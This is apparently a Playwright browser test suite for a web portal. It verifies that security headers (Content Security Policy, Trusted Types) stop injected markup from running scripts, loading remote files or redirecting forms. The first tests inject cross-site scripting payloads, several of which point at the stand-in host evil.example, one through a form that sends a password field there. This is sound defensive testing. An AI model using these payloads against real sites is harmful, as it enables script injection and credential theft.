import { expect } from "playwright/test";
import { LATE_SCRIPT } from "../../worker/render/boot.ts";
import { HOME, origin, watch } from "./portal.ts";
import { messages, pathOf, requested, rewrite } from "./shell/shell.ts";
import { test } from "./test.ts";

/** The headers of tests/edge/headers.test.ts, at work in a browser. */

const page404 = `${origin("ie")}/assets/nowhere.js`;

test("markup that got into a page runs nothing, loads nothing of others and leads no form away", async ({ page }) => {
	const said = messages(page);
	await page.route("https://evil.example/**", (route) => route.fulfill({ body: "window.pwned = 1" }));
	const injected = [
		"<script>window.pwned = 1</script>",
		'<script src="https://evil.example/x.js"></script>',
		`<script src="${page404}"></script>`,
		'<img src="x:" onerror="window.pwned = 1">',
		'<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
		'<a id="js" href="javascript:window.pwned = 1">x</a>',
		'<form id="out" action="https://evil.example/"><input name="password" value="x"></form>',
		'<base href="https://evil.example/">',
		'<object data="https://evil.example/x"></object>',
		// The policy trusts this script. At its first run it notes the page, then it moves late parts.
		`<p data-part="x" data-state="pending"></p><p data-part="y" data-state="pending"></p><script>${LATE_SCRIPT}</script>`,
		`<div data-late><p data-part="x"><script>window.pwned = 1</script></p></div><script>${LATE_SCRIPT}</script>`,
		`<template data-late><p data-part="y"><script>window.pwned = 1</script></p></template><script>${LATE_SCRIPT}</script>`,
		'<style>body { display: none }</style><p id="shown" style="display: none">x</p>',
	].join("");
	await rewrite(page, `${HOME}/about`, (html) => html.replace('<main id="content"', `${injected}$&`));
	await page.goto(`${HOME}/about`);
	await expect(page.locator("#shown")).toBeVisible();
	await expect(page.locator("[data-part=x]:not([data-state])"), "moved").toHaveCount(1);
	await page.locator("#js").click();
	await page.locator("#out").evaluate((form: HTMLFormElement) => form.submit());
	expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
	expect(page.url()).toBe(`${HOME}/about`);
	expect(await page.evaluate(() => "pwned" in window)).toBe(false);
	for (const directive of ["script-src", "script-src-attr", "form-action", "base-uri", "object-src", "style-src"]) {
		await expect.poll(() => said.join("\n"), directive).toContain(directive);
	}
	// The page's own script runs all the same.
	await expect.poll(() => page.evaluate(() => "dataLayer" in window)).toBe(true);
});

test("what markup brought into a template runs nothing where a script copies it", async ({ page }) => {
	const asked: string[] = [];
	await page.route("https://evil.example/**", (route) => {
		asked.push(route.request().url());
		return route.abort();
	});
	const script = '<script src="https://evil.example/x.js"></script>';
	const shelves = `<div data-enhance="shelves"><input data-keep><input data-reading><div data-shelf="saved"><ul></ul></div>
		<template data-entry><li id="copied"><a href="#top"></a>${script}</li></template></div>`;
	const mark = `<div hidden data-new><span>New${script}</span></div>`;
	await rewrite(page, `${HOME}/news`, (html) => html.replace('<main id="content"', `${mark}${shelves}$&`));
	await page.goto(`${origin("ie")}/robots.txt`);
	await page.evaluate((now) => {
		localStorage.setItem("visits", `0 ${now - 3 * 24 * 60 * 60 * 1000}`);
		const saved = [{ path: "/en-IE/news/saved", title: "Saved", at: now }];
		localStorage.setItem("library:visitor", JSON.stringify({ saved }));
	}, Date.now());
	await page.goto(`${HOME}/news`);
	await expect(page.locator(".card .card__new").first()).toBeVisible();
	await expect(page.locator("#copied")).toHaveText("Saved");
	await page.waitForLoadState("networkidle");
	expect(asked).toEqual([]);
});

test("no text becomes markup or script but by a policy with a name", async ({ page }) => {
	await page.goto(HOME);
	const results = await page.evaluate(() => {
		const attempt = (act: () => unknown) => {
			try {
				act();
				return "done";
			} catch (error) {
				return error instanceof Error ? error.name : "refused";
			}
		};
		const script = document.createElement("script");
		const types: { createPolicy(name: string, rules: object): unknown } = Reflect.get(window, "trustedTypes");
		return [
			attempt(() => document.body.insertAdjacentHTML("beforeend", "<b>x</b>")),
			attempt(() => new DOMParser().parseFromString("<b>x</b>", "text/html")),
			attempt(() => Object.assign(script, { src: "/assets/x.js" })),
			attempt(() => Object.assign(script, { textContent: "1" })),
			attempt(() => document.body.setAttribute("onclick", "1")),
			attempt(() => types.createPolicy("other", {})),
			attempt(() => types.createPolicy("shell", { createHTML: (html: string) => html })),
		];
	});
	expect(results).toEqual(Array.from({ length: 7 }, () => "TypeError"));
});

test("what a page names in its header is used, fetched once and reported by no policy", async ({ page }) => {
	const asked = requested(page, undefined, pathOf);
	const problems = watch(page);
	for (const [country, path] of [
		["ie", "/en-IE"],
		["tr", "/tr-TR"],
	] as const) {
		asked.length = 0;
		const answer = await page.goto(origin(country) + path);
		const named = [...(answer?.headers().link ?? "").matchAll(/<([^>]+)>/g)].map(([, file]) => file);
		expect(named.length).toBeGreaterThanOrEqual(3);
		await expect.poll(() => page.evaluate(() => "dataLayer" in window)).toBe(true);
		await page.evaluate(() => document.fonts.ready);
		for (const file of named) {
			const loads = () =>
				page.evaluate((name) => performance.getEntriesByName(location.origin + name).length, file ?? "");
			await expect.poll(loads, file).toBe(1);
			expect(
				asked.filter((one) => one === file),
				file,
			).toHaveLength(1);
		}
		expect(asked).not.toContain("/ops/reports");
		expect(problems).toEqual([]);
	}
});
